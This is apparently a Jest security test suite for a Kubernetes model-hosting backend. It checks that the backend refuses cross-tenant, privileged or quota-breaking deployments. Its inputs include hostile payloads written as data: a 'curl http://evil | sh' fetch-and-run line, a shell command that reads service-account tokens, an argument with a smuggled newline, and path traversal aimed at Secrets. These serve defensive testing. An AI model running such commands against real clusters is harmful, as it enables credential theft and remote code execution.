// Attacks on where a deployment may go, whose it is and what its pods may ask for, through the
// REST API as signed-in people (real sign-in, real policy), and through kubectl around the API.
import {
  AppsV1Api,
  CoreV1Api,
  CustomObjectsApi,
  V1Deployment,
} from '@kubernetes/client-node';
import { MODEL_DEPLOYMENT } from '@modelhosting/backstage-plugin-model-hosting-common';
import {
  adminKubeConfig,
  apiMessage,
  createModelDeployment,
  eventually,
  useNamespace,
} from '../kube';
import {
  DS,
  expectRefused,
  MH,
  ML,
  one,
  Portal,
  Session,
  specOf,
  startPortal,
} from './portal';

const deploy = (
  who: Session,
  namespace: string,
  name: string,
  spec: Record<string, unknown>,
) => who.post(`${MH}/deployments`, { cluster: 'local', namespace, name, spec });

describe('security: namespaces, owners, pod guardrails, names and quotas', () => {
  // Opened to ml-platform only (alice's team), with one Secret its tenants may read.
  const nsMl = useNamespace('sec-ten-ml', {
    owners: [ML],
    annotations: { 'modelhosting.io/allowed-secrets': 'ml-hf-token' },
  });
  // Opened to data-science only (bob's team).
  const nsDs = useNamespace('sec-ten-ds', { owners: [DS] });
  // A namespace that exists but nobody opened.
  const closed = `sec-ten-closed-${Date.now().toString(36)}`;
  let portal: Portal;
  let alice: Session;
  let bob: Session;
  let admin: Session;
  const core = () => adminKubeConfig().makeApiClient(CoreV1Api);
  const apps = () => adminKubeConfig().makeApiClient(AppsV1Api);

  beforeAll(async () => {
    await core().createNamespace({ body: { metadata: { name: closed } } });
    // Someone else's objects in alice's namespace, with the names a deployment would use.
    await core().createNamespacedService({
      namespace: nsMl(),
      body: {
        metadata: { name: 'victim', labels: { app: 'billing' } },
        spec: {
          selector: { app: 'billing' },
          ports: [{ port: 80, targetPort: 8080 }],
        },
      },
    });
    await core().createNamespacedConfigMap({
      namespace: nsMl(),
      body: { metadata: { name: 'squat-engine' }, data: { owner: 'billing' } },
    });
    portal = await startPortal({
      modelHosting: {
        tenancy: {
          quotas: {
            owners: [{ owner: DS, gpus: { 'nvidia.com/gpu': 1 } }],
          },
        },
        guardrails: {
          // A Secret the admins allowed in alice's namespace only.
          secretRefs: [{ namespace: nsMl(), name: 'hf-token' }],
        },
      },
    });
    [alice, bob, admin] = await Promise.all(
      ['alice', 'bob', 'admin'].map(n => portal.as(n)),
    );
    // The namespaces are in the backend's cache before anyone deploys.
    await eventually(async () => {
      const res = await deploy(alice, nsMl(), 'warmup', specOf(ML));
      if (res.status !== 201) throw new Error(`${res.status} ${res.text}`);
    });
    await eventually(async () => {
      const res = await deploy(bob, nsDs(), 'gpu-one', {
        ...specOf(DS),
        resources: { gpu: { count: 1 } },
      });
      if (res.status !== 201) throw new Error(`${res.status} ${res.text}`);
    });
  });
  afterAll(async () => {
    await portal?.stop();
    await core()
      .deleteNamespace({ name: closed })
      .catch(() => undefined);
  });

  const bobDeploys =
    (namespace: () => string, spec: Record<string, unknown>, name = 'attack') =>
    () =>
      deploy(bob, namespace(), name, spec);
  const aliceDeploys =
    (spec: Record<string, unknown>, name = 'attack') =>
    () =>
      deploy(alice, nsMl(), name, spec);
  const denied = (who: 'alice' | 'bob', action = 'deploy') => ({
    actor: `user:default/${who}`,
    action,
    outcome: 'denied' as const,
  });
  const rejected = (who: 'alice' | 'bob', action = 'deploy') => ({
    actor: `user:default/${who}`,
    action,
    outcome: 'rejected' as const,
  });

  // ---- where ---------------------------------------------------------------------------------

  it('attack (issue 12): kube-system with busybox, a shell command, a secretKeyRef and a keyless toleration → 403 naming every rule', async () => {
    await expectRefused(
      portal,
      () =>
        deploy(alice, 'kube-system', 'pwn', {
          ...specOf(ML),
          image: 'busybox',
          engineArgs: ['sh', '-c', 'cat /var/run/secrets/*/token'],
          env: [
            {
              name: 'T',
              valueFrom: {
                secretKeyRef: { name: 'bootstrap-token-abc', key: 'token' },
              },
            },
          ],
          tolerations: [{ operator: 'Exists' }],
        }),
      {
        status: 403,
        message: new RegExp(
          [
            '^Refused by namespaces: namespace kube-system is a system namespace; model servers are never deployed there',
            'images: image busybox is not allowed for engine http',
            'engineArgs: engineArgs must start with a flag',
            'secretRefs: env T reads Secret bootstrap-token-abc, which the admins have not allowed in namespace kube-system',
            'tolerations: a toleration without a key tolerates every taint',
          ].join('.*'),
        ),
        namespaces: ['kube-system'],
        audit: denied('alice'),
      },
    );
  });

  it("attack: deploy into the backend's own namespace (model-hosting) → 403", async () => {
    await expectRefused(
      portal,
      bobDeploys(() => 'model-hosting', specOf(DS)),
      {
        status: 403,
        message:
          'Refused by namespaces: namespace model-hosting is a system namespace; model servers are never deployed there',
        namespaces: ['model-hosting'],
        audit: denied('bob'),
      },
    );
  });

  it('attack: deploy into a namespace nobody opened → 403', async () => {
    await expectRefused(
      portal,
      bobDeploys(() => closed, specOf(DS)),
      {
        status: 403,
        message: `Refused by namespaces: namespace ${closed} on cluster local is not opened to ${DS} (opened to nobody)`,
        namespaces: [closed],
        audit: denied('bob'),
      },
    );
  });

  it('attack: deploy into a namespace opened to another team → 403', async () => {
    await expectRefused(portal, bobDeploys(nsMl, specOf(DS)), {
      status: 403,
      message: `Refused by namespaces: namespace ${nsMl()} on cluster local is not opened to ${DS} (opened to ${ML})`,
      namespaces: [nsMl()],
      audit: denied('bob'),
    });
  });

  it('attack: deploy into a namespace that does not exist (kube-evil) → 400', async () => {
    await expectRefused(
      portal,
      bobDeploys(() => 'kube-evil', specOf(DS)),
      {
        status: 400,
        message: "Namespace 'kube-evil' does not exist in cluster 'local'",
        namespaces: [nsDs()],
        audit: rejected('bob'),
      },
    );
  });

  it('attack: a deployment name that walks out of its path (../kube-system) → 400', async () => {
    const res = await expectRefused(
      portal,
      bobDeploys(nsDs, specOf(DS), '../kube-system'),
      {
        status: 400,
        message: /name/,
        namespaces: [nsDs(), 'kube-system'],
        audit: rejected('bob'),
      },
    );
    expect(res.body.error.name).toBe('InputError');
  });

  // ---- whose ---------------------------------------------------------------------------------

  it("attack (issue 12): spec.owner of another team (bob deploys as ml-platform into ml-platform's namespace) → 403", async () => {
    await expectRefused(portal, bobDeploys(nsMl, specOf(ML)), {
      status: 403,
      message: `Refused by owners: spec.owner ${ML} is not one of your teams; deploy for a team you belong to`,
      namespaces: [nsMl()],
      audit: denied('bob'),
    });
  });

  it('attack: spec.owner spelled differently (ML-Platform, a bare name) → 403', async () => {
    await expectRefused(portal, bobDeploys(nsMl, specOf('ML-Platform')), {
      status: 403,
      message: `Refused by owners: spec.owner ${ML} is not one of your teams; deploy for a team you belong to`,
      namespaces: [nsMl()],
      audit: denied('bob'),
    });
  });

  it('attack: spec.owner another person (user:default/alice) → 403', async () => {
    await expectRefused(
      portal,
      bobDeploys(nsDs, specOf('user:default/alice')),
      {
        status: 403,
        message:
          'Refused by owners: spec.owner user:default/alice is not one of your teams; deploy for a team you belong to',
        namespaces: [nsDs()],
        audit: denied('bob'),
      },
    );
  });

  it("attack: move a team's deployment to another owner by deploying it again, as an admin, into a namespace not opened to that owner → 403", async () => {
    await expectRefused(
      portal,
      () => deploy(admin, nsMl(), 'warmup', specOf(DS)),
      {
        status: 403,
        message: `Refused by namespaces: namespace ${nsMl()} on cluster local is not opened to ${DS} (opened to ${ML})`,
        namespaces: [nsMl()],
        audit: {
          actor: 'user:default/admin',
          action: 'deploy',
          outcome: 'denied',
        },
      },
    );
  });

  // ---- what: images and arguments -------------------------------------------------------------

  it('attack: busybox in a namespace of her own team → 403 images', async () => {
    await expectRefused(
      portal,
      aliceDeploys({ ...specOf(ML), image: 'busybox:latest' }),
      {
        status: 403,
        message:
          'Refused by images: image busybox:latest is not allowed for engine http (allowed: seldonio/mlserver)',
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it("attack: another engine's image (vllm with ollama's repository) → 403 images", async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        engine: 'vllm',
        model: { name: 'facebook/opt-125m' },
        image: 'ollama/ollama:0.6.8',
      }),
      {
        status: 403,
        message:
          'Refused by images: image ollama/ollama:0.6.8 is not allowed for engine vllm (allowed: vllm/vllm-openai)',
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack: a look-alike repository (vllm/vllm-openai-evil) → 403 images', async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        engine: 'vllm',
        model: { name: 'facebook/opt-125m' },
        image: 'vllm/vllm-openai-evil:v0.8.5',
      }),
      {
        status: 403,
        message:
          /^Refused by images: image vllm\/vllm-openai-evil:v0.8.5 is not allowed/,
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack (issue 12): engineArgs as a command (sh -c …) → 403 engineArgs', async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        engine: 'vllm',
        model: { name: 'facebook/opt-125m' },
        engineArgs: ['sh', '-c', 'curl http://evil | sh'],
      }),
      {
        status: 403,
        message:
          "Refused by engineArgs: engineArgs must start with a flag such as --max-model-len, not 'sh': they are the engine's options, not a command",
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it("attack: vllm's --trust-remote-code (runs the model repository's Python) → 403 engineArgs", async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        engine: 'vllm',
        model: { name: 'facebook/opt-125m' },
        engineArgs: ['--max-model-len', '2048', '--trust-remote-code=true'],
      }),
      {
        status: 403,
        message:
          'Refused by engineArgs: engineArgs --trust-remote-code=true are not allowed for engine vllm',
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack: engineArgs for ollama (which takes none) → 403 engineArgs', async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        engine: 'ollama',
        model: { name: 'llama3.2:1b' },
        engineArgs: ['--host', '0.0.0.0'],
      }),
      {
        status: 403,
        message:
          'Refused by engineArgs: engine ollama takes no engineArgs (its settings come from env)',
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack: an engine argument with a line break → 403 engineArgs', async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        engine: 'vllm',
        model: { name: 'facebook/opt-125m' },
        engineArgs: ['--served-model-name', 'x\nexport EVIL=1'],
      }),
      {
        status: 403,
        message:
          'Refused by engineArgs: engineArgs may not contain line breaks or NUL',
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack: an engine this backend does not run → 400', async () => {
    await expectRefused(
      portal,
      aliceDeploys({ ...specOf(ML), engine: 'shell' }),
      {
        status: 400,
        message: /engine/,
        namespaces: [nsMl()],
        audit: rejected('alice'),
      },
    );
  });

  // ---- what: secrets, tolerations, nodes ---------------------------------------------------------

  it('attack: env from a Secret nobody allowed (secretKeyRef) → 403 secretRefs', async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        env: [
          {
            name: 'DB_PASSWORD',
            valueFrom: {
              secretKeyRef: { name: 'billing-db', key: 'password' },
            },
          },
        ],
      }),
      {
        status: 403,
        message: `Refused by secretRefs: env DB_PASSWORD reads Secret billing-db, which the admins have not allowed in namespace ${nsMl()}`,
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack: env from a Secret the admins allowed in another namespace only → 403 secretRefs', async () => {
    await expectRefused(
      portal,
      bobDeploys(nsDs, {
        ...specOf(DS),
        env: [
          {
            name: 'HF_TOKEN',
            valueFrom: { secretKeyRef: { name: 'hf-token', key: 'token' } },
          },
        ],
      }),
      {
        status: 403,
        message: `Refused by secretRefs: env HF_TOKEN reads Secret hf-token, which the admins have not allowed in namespace ${nsDs()}`,
        namespaces: [nsDs()],
        audit: denied('bob'),
      },
    );
  });

  it('attack: env from a ConfigMap nobody allowed (configMapKeyRef) → 403 configMapRefs', async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        env: [
          {
            name: 'KUBECONFIG_DATA',
            valueFrom: {
              configMapKeyRef: { name: 'squat-engine', key: 'owner' },
            },
          },
        ],
      }),
      {
        status: 403,
        message: `Refused by configMapRefs: env KUBECONFIG_DATA reads ConfigMap squat-engine, which the admins have not allowed in namespace ${nsMl()}`,
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack: a toleration of the control-plane taint → 403 tolerations', async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        tolerations: [
          {
            key: 'node-role.kubernetes.io/control-plane',
            operator: 'Exists',
            effect: 'NoSchedule',
          },
        ],
      }),
      {
        status: 403,
        message:
          'Refused by tolerations: toleration of node-role.kubernetes.io/control-plane is not allowed (allowed: nvidia.com/gpu)',
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack (issue 12): a keyless toleration (tolerates every taint) → 403 tolerations', async () => {
    await expectRefused(
      portal,
      aliceDeploys({ ...specOf(ML), tolerations: [{ operator: 'Exists' }] }),
      {
        status: 403,
        message:
          'Refused by tolerations: a toleration without a key tolerates every taint; name the taint',
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  it('attack: a nodeSelector pinning a node by hostname → 403 nodeSelector', async () => {
    await expectRefused(
      portal,
      aliceDeploys({
        ...specOf(ML),
        nodeSelector: { 'kubernetes.io/hostname': 'gpu-a100-0' },
      }),
      {
        status: 403,
        message:
          /^Refused by nodeSelector: nodeSelector key kubernetes.io\/hostname is not allowed \(allowed: nvidia.com\/gpu.product/,
        namespaces: [nsMl()],
        audit: denied('alice'),
      },
    );
  });

  // ---- what: health-check paths (the backend calls them with its credentials) --------------------

  it.each([
    [
      '`..` segments',
      '/../../../../api/v1/secrets',
      /healthCheck.path may not contain '.' or '..' segments/,
    ],
    [
      'encoded dots',
      '/%2e%2e/%2e%2e/api/v1/secrets',
      /healthCheck.path|spec.healthCheck.path/,
    ],
    [
      'a query',
      '/v2/health/ready?x=/../../api',
      /healthCheck.path|spec.healthCheck.path/,
    ],
    [
      'a fragment',
      '/v2/health/ready#/../../api',
      /healthCheck.path|spec.healthCheck.path/,
    ],
    [
      'a relative path',
      'api/v1/secrets',
      /healthCheck.path|spec.healthCheck.path/,
    ],
  ])('attack: healthCheck.path with %s → 400', async (_what, p, message) => {
    await expectRefused(
      portal,
      aliceDeploys({ ...specOf(ML), healthCheck: { path: p } }),
      {
        status: 400,
        message,
        namespaces: [nsMl()],
        audit: rejected('alice'),
      },
    );
  });

  // ---- names taken by others ---------------------------------------------------------------------

  it('attack (issue 12): a name held by a foreign Service → 409 naming it; the Service unchanged byte for byte', async () => {
    const before = await core().readNamespacedService({
      namespace: nsMl(),
      name: 'victim',
    });
    await expectRefused(portal, aliceDeploys(specOf(ML), 'victim'), {
      status: 409,
      message: `Service ${nsMl()}/victim already exists and is not managed by this ModelDeployment (no controller); nothing was written: choose another name or remove that Service`,
      namespaces: [nsMl()],
      audit: rejected('alice'),
    });
    const after = await core().readNamespacedService({
      namespace: nsMl(),
      name: 'victim',
    });
    expect(JSON.stringify(after)).toBe(JSON.stringify(before));
  });

  it('attack: a name whose engine ConfigMap is held by someone else → 409 naming it', async () => {
    await expectRefused(portal, aliceDeploys(specOf(ML), 'squat'), {
      status: 409,
      message: `ConfigMap ${nsMl()}/squat-engine already exists and is not managed by this ModelDeployment (no controller); nothing was written: choose another name or remove that ConfigMap`,
      namespaces: [nsMl()],
      audit: rejected('alice'),
    });
  });

  // ---- around the API: kubectl -------------------------------------------------------------------

  const readMd = (namespace: string, name: string) =>
    adminKubeConfig()
      .makeApiClient(CustomObjectsApi)
      .getNamespacedCustomObject({
        group: MODEL_DEPLOYMENT.group,
        version: MODEL_DEPLOYMENT.version,
        plural: MODEL_DEPLOYMENT.plural,
        namespace,
        name,
      }) as Promise<any>;
  const reconciled = (md: any) =>
    md.status?.conditions?.find((c: any) => c.type === 'Reconciled');
  const warnings = async (namespace: string, name: string) =>
    (
      await core().listNamespacedEvent({
        namespace,
        fieldSelector: `involvedObject.name=${name},type=Warning`,
      })
    ).items;

  it('attack: a ModelDeployment made with kubectl (past the API) that breaks the guardrails → the reconciler writes nothing: PolicyViolation and a Warning Event', async () => {
    await createModelDeployment(adminKubeConfig(), nsMl(), {
      apiVersion: MODEL_DEPLOYMENT.apiVersion,
      kind: MODEL_DEPLOYMENT.kind,
      metadata: { name: 'around' },
      spec: {
        ...specOf(ML),
        image: 'busybox',
        tolerations: [{ operator: 'Exists' }],
      },
    });
    const md = await eventually(async () => {
      const m = await readMd(nsMl(), 'around');
      if (reconciled(m)?.reason !== 'PolicyViolation')
        throw new Error(JSON.stringify(m.status));
      return m;
    });
    expect(reconciled(md)).toMatchObject({
      status: 'False',
      reason: 'PolicyViolation',
      message: expect.stringMatching(
        /images: image busybox is not allowed.*tolerations: a toleration without a key/,
      ),
    });
    for (const [kind, read] of [
      [
        'Deployment',
        () =>
          apps().readNamespacedDeployment({
            namespace: nsMl(),
            name: 'around',
          }),
      ],
      [
        'Service',
        () =>
          core().readNamespacedService({ namespace: nsMl(), name: 'around' }),
      ],
      [
        'ConfigMap',
        () =>
          core().readNamespacedConfigMap({
            namespace: nsMl(),
            name: 'around-engine',
          }),
      ],
    ] as const) {
      await expect(
        (read as () => Promise<unknown>)().then(() => `${kind} exists`),
      ).rejects.toThrow(/404|not found/i);
    }
    expect((await warnings(nsMl(), 'around')).map(e => e.reason)).toContain(
      'PolicyViolation',
    );
  });

  it('attack: a ModelDeployment made with kubectl under the name of a foreign Deployment → NameConflict, the Deployment untouched', async () => {
    const foreign: V1Deployment = {
      metadata: { name: 'payments', labels: { app: 'payments' } },
      spec: {
        replicas: 0,
        selector: { matchLabels: { app: 'payments' } },
        template: {
          metadata: { labels: { app: 'payments' } },
          spec: {
            containers: [{ name: 'p', image: 'registry.local/payments:1' }],
          },
        },
      },
    };
    await apps().createNamespacedDeployment({
      namespace: nsMl(),
      body: foreign,
    });
    // Once the Deployment controller is done with it, nobody but us could change it.
    const before = await eventually(async () => {
      const d = await apps().readNamespacedDeployment({
        namespace: nsMl(),
        name: 'payments',
      });
      if (
        d.status?.observedGeneration !== 1 ||
        !d.status?.conditions?.some(c => c.type === 'Available')
      )
        throw new Error('not settled');
      return d;
    });
    await createModelDeployment(adminKubeConfig(), nsMl(), {
      apiVersion: MODEL_DEPLOYMENT.apiVersion,
      kind: MODEL_DEPLOYMENT.kind,
      metadata: { name: 'payments' },
      spec: specOf(ML),
    });
    const md = await eventually(async () => {
      const m = await readMd(nsMl(), 'payments');
      if (reconciled(m)?.reason !== 'NameConflict')
        throw new Error(JSON.stringify(m.status));
      return m;
    });
    expect(reconciled(md)).toMatchObject({
      status: 'False',
      reason: 'NameConflict',
      message: expect.stringContaining(
        `Deployment ${nsMl()}/payments already exists and is not managed by this ModelDeployment`,
      ),
    });
    await new Promise(r => setTimeout(r, 1500));
    const after = await apps().readNamespacedDeployment({
      namespace: nsMl(),
      name: 'payments',
    });
    expect(JSON.stringify(after)).toBe(JSON.stringify(before));
    // Nothing else of the plan was written either: every child's name is checked before any write.
    const absent = (read: Promise<unknown>) =>
      read.then(
        () => 'exists',
        e => (apiMessage(e).includes('not found') ? 'absent' : apiMessage(e)),
      );
    expect(
      await absent(
        core().readNamespacedConfigMap({
          namespace: nsMl(),
          name: 'payments-engine',
        }),
      ),
    ).toBe('absent');
    expect(
      await absent(
        core().readNamespacedService({ namespace: nsMl(), name: 'payments' }),
      ),
    ).toBe('absent');
    expect((await warnings(nsMl(), 'payments')).map(e => e.reason)).toContain(
      'NameConflict',
    );
  });

  it('Pod Security baseline is enforced in opened namespaces: a privileged pod is refused by the API server, ours run', async () => {
    const refused = await core()
      .createNamespacedPod({
        namespace: nsMl(),
        body: {
          metadata: { name: 'privileged' },
          spec: {
            containers: [
              {
                name: 'c',
                image: 'busybox',
                securityContext: { privileged: true },
              },
            ],
          },
        },
      })
      .then(
        () => 'created',
        e => apiMessage(e),
      );
    expect(refused).toMatch(
      /pods "privileged" is forbidden: violates PodSecurity "baseline:latest": privileged/,
    );
    // The deployment made in beforeAll runs: its pod passed baseline, with the restricted context.
    const pod = await eventually(async () => {
      const pods = await core().listNamespacedPod({
        namespace: nsMl(),
        labelSelector: 'app.kubernetes.io/instance=warmup',
      });
      if (!pods.items.length) throw new Error('no pod yet');
      return pods.items[0];
    });
    expect(pod.spec?.automountServiceAccountToken).toBe(false);
    expect(pod.spec?.securityContext?.seccompProfile?.type).toBe(
      'RuntimeDefault',
    );
    for (const c of pod.spec?.containers ?? []) {
      expect(c.securityContext?.allowPrivilegeEscalation).toBe(false);
      expect(c.securityContext?.capabilities?.drop).toEqual(['ALL']);
      expect(c.securityContext?.privileged).not.toBe(true);
    }
  });

  // ---- quotas ------------------------------------------------------------------------------------

  it('attack: over the GPU quota by a new deployment → 403 quotas', async () => {
    await expectRefused(
      portal,
      bobDeploys(
        nsDs,
        { ...specOf(DS), resources: { gpu: { count: 1 } } },
        'gpu-two',
      ),
      {
        status: 403,
        message: `Refused by quotas: ${DS} may hold at most 1 nvidia.com/gpu; this would be 2 (GPUs per replica times the most replicas)`,
        namespaces: [nsDs()],
        audit: denied('bob'),
      },
    );
  });

  it('attack: over the GPU quota by scaling up → 403 quotas', async () => {
    await expectRefused(
      portal,
      () => bob.post(one(nsDs(), 'gpu-one', 'scale'), { replicas: 3 }),
      {
        status: 403,
        message: `Refused by quotas: ${DS} may hold at most 1 nvidia.com/gpu; this would be 3 (GPUs per replica times the most replicas)`,
        namespaces: [nsDs()],
        audit: denied('bob', 'scale'),
      },
    );
  });

  it('attack: over the GPU quota through an autoscaling range (counted at maxReplicas) → 403 quotas', async () => {
    await expectRefused(
      portal,
      bobDeploys(
        nsDs,
        {
          ...specOf(DS),
          resources: { gpu: { count: 1 } },
          autoscaling: {
            enabled: true,
            minReplicas: 0,
            maxReplicas: 8,
            metrics: [{ type: 'requestsInFlight', target: 4 }],
            scaleToZeroAfterSeconds: 60,
          },
          replicas: 0,
        },
        'gpu-burst',
      ),
      {
        status: 403,
        message:
          /^Refused by quotas: group:default\/data-science may hold at most 1 nvidia.com\/gpu; this would be 9/,
        namespaces: [nsDs()],
        audit: denied('bob'),
      },
    );
  });

  it('lets an admin deploy for any team into a namespace opened to it (model-hosting.admin)', async () => {
    const res = await deploy(admin, nsDs(), 'by-admin', specOf(DS));
    expect(res.status).toBe(201);
    expect(res.body.spec.owner).toBe(DS);
  });

  it('the kubectl-made deployments stay refused: admin views show the conditions', async () => {
    const res = await admin.get(one(nsMl(), 'around'));
    expect(res.status).toBe(200);
    expect(
      res.body.resource.status.conditions.find(
        (c: any) => c.type === 'Reconciled',
      ).reason,
    ).toBe('PolicyViolation');
  });
});
